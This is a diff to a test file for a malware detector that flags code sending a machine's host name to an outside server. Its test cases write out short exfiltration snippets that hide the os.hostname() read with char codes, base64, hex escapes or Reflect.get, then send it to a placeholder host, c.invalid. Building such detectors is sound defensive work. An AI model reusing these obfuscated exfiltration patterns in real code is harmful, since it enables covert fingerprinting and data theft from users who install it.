@@ -6,9 +6,57 @@ import { identityTargeting } from '../../../src/analysis/detectors/identity-targ
 import { fileFacts } from '../../../src/analysis/facts/file-facts.js';
 import { parse } from '../../../src/analysis/parse.js';
 import { walk } from '../../../src/analysis/walk.js';
-import { runDetectorCases, type DetectorCase } from '../../support/detector-cases.js';
+import { findingsFor, runDetectorCases, type DetectorCase } from '../../support/detector-cases.js';
 
 const CASES: DetectorCase[] = [
+  {
+    name: 'disguised: Reflect.get',
+    code: "const os = require('os'); const https = require('https');\nconst host = Reflect.get(os, 'hostname')();\nhttps.get('https://c.invalid/?h=' + host);",
+    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nconst host = Reflect.get(os, 'platform')();\nhttps.get('https://c.invalid/?h=' + host);" },
+  },
+  {
+    name: 'disguised: a property descriptor and .call',
+    code: "const os = require('os'); const https = require('https');\nconst host = Object.getOwnPropertyDescriptor(os, 'hostname').value.call(os);\nhttps.get('https://c.invalid/?h=' + host);",
+    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nconst host = Object.getOwnPropertyDescriptor(os, 'arch').value.call(os);\nhttps.get('https://c.invalid/?h=' + host);" },
+  },
+  {
+    name: 'disguised: a key searched with Object.keys(...).find',
+    code: "const os = require('os'); const https = require('https');\nconst k = Object.keys(os).find((k) => k === 'hostname'); const host = os[k]();\nhttps.get('https://c.invalid/?h=' + host);",
+    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nconst k = Object.keys(os).find((k) => k === 'release'); const host = os[k]();\nhttps.get('https://c.invalid/?h=' + host);" },
+  },
+  {
+    name: 'disguised: a name from char codes and .call',
+    code: "const os = require('os'); const https = require('https');\nconst n = String.fromCharCode(104, 111, 115, 116, 110, 97, 109, 101); const host = os[n].call(os);\nhttps.get('https://c.invalid/?h=' + host);",
+    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nconst n = String.fromCharCode(97, 114, 99, 104); const host = os[n].call(os);\nhttps.get('https://c.invalid/?h=' + host);" },
+  },
+  {
+    name: 'disguised: a base64 name and .apply',
+    code: "const os = require('os'); const https = require('https');\nconst n = Buffer.from('aG9zdG5hbWU=', 'base64').toString(); const host = os[n].apply(os, []);\nhttps.get('https://c.invalid/?h=' + host);",
+    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nconst n = Buffer.from('cGxhdGZvcm0=', 'base64').toString(); const host = os[n].apply(os, []);\nhttps.get('https://c.invalid/?h=' + host);" },
+  },
+  {
+    name: 'disguised: hex escapes and .bind',
+    code: "const os = require('os'); const https = require('https');\nconst get = os['\\x68ostname'].bind(os); const host = get();\nhttps.get('https://c.invalid/?h=' + host);",
+    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nconst get = os['\\x74ype'].bind(os); const host = get();\nhttps.get('https://c.invalid/?h=' + host);" },
+  },
+  {
+    name: 'disguised: a string variable',
+    code: "const os = require('os'); const https = require('https');\nconst name = 'host' + 'name'; const host = os[name]();\nhttps.get('https://c.invalid/?h=' + host);",
+    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nconst name = 'up' + 'time'; const host = os[name]();\nhttps.get('https://c.invalid/?h=' + host);" },
+  },
+  {
+    name: 'disguised sink: the request method named with char codes',
+    code: "const os = require('os'); const https = require('https');\nconst m = String.fromCharCode(103, 101, 116);\nhttps[m]('https://c.invalid/?h=' + os.hostname());",
+    expect: [{ severity: 'high', line: 3, messageIncludes: 'the call is disguised' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nconst m = String.fromCharCode(103, 101, 116);\nhttps[m]('https://c.invalid/?v=' + os.platform());" },
+  },
   {
     name: 'an undeclared variable carries the host name to the request',
     code: "const os = require('os'); const http = require('http');\nhost = os.hostname();\nhttp.request({ hostname: 'c.invalid', path: '/x?host=' + host }).end();",
@@ -168,5 +216,27 @@ describe('install-time escalation', () => {
     const reports = reportsFor(detector, code);
     expect(reports).toHaveLength(1);
     expect(reports[0]?.severityByCodeKind?.install).toBe(install);
+  });
+});
+
+describe('disguised reads in the full rule set', () => {
+  it('a disguised read alone is reported one step above a plain read, with how it was hidden', async () => {
+    const { DETECTORS } = await import('../../../src/analysis/detectors/index.js');
+    const code = "const os = require('os');\nconst n = String.fromCharCode(104, 111, 115, 116, 110, 97, 109, 101);\nconsole.log(os[n]());";
+    const outcome = parse(code);
+    if (!outcome.ok) throw new Error(outcome.reason);
+    const { runDetectors } = await import('../../../src/analysis/run-detectors.js');
+    const run = runDetectors({ file: 'a.js', source: code, program: outcome.program, codeKind: 'entry' }, DETECTORS);
+    const disguised = run.findings.filter((f) => f.ruleId === 'fingerprint-source' && f.severity === 'low');
+    expect(disguised.map((f) => f.message)).toEqual([
+      'Reads the host name (os.hostname()) through a disguised access (a name built with char-codes) in entry code',
+    ]);
+    expect(run.findings.filter((f) => f.ruleId === 'fingerprint-exfiltration')).toEqual([]);
+  });
+
+  it('install-time exfiltration through a disguised read is critical', () => {
+    const code = "const os = require('os'); const https = require('https');\nconst host = Reflect.get(os, 'hostname')();\nhttps.get('https://c.invalid/?h=' + host);";
+    const findings = findingsFor(fingerprintExfiltration, code, 'install');
+    expect(findings.map((f) => f.severity)).toEqual(['critical']);
   });
 });
